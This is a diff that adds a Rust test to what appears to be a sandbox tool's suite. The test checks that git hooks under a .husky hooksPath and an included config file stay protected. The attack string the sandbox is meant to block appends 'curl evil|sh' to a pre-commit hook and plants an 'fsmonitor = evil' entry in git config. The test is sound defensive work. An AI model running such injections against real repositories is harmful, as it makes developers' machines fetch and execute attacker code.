@@ -382,6 +382,33 @@ per_backend!(
     landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
 );
 
+/// The same with an inline comment and the key on the section header line (git reads both):
+/// the path git runs hooks from is `.husky`, so `.husky` is what must be protected.
+fn git_hooks_path_with_inline_comment(w: &World, b: Backend) {
+    git_repo(w);
+    w.write(
+        &w.ws.join(".git/config"),
+        &format!(
+            "{GIT_CONFIG}\thooksPath = .husky # lint-staged\n[include] path = ../local.cfg ; x\n"
+        ),
+    );
+    let hook = w.ws.join(".husky/pre-commit");
+    w.write(&hook, "#!/bin/sh\nnpx lint-staged\n");
+    let included = w.ws.join("local.cfg");
+    w.write(&included, "[user]\n\tname = dev\n");
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&hook, &included],
+        "echo 'curl evil|sh' >> .husky/pre-commit; printf '[core]\\n\\tfsmonitor = evil\\n' >> local.cfg",
+    );
+}
+per_backend!(
+    git_hooks_path_with_inline_comment,
+    landlock: "reduced rung (chosen only by name): protected paths are not enforced without a mount namespace (see doctor)"
+);
+
 /// `.git/hooks` as a symlink to a tracked directory of the workspace (a common set-up): the
 /// hooks git runs live in `githooks/`. Refusing to run (exit 125, nothing attempted) is a
 /// correct answer too; changing them is not.
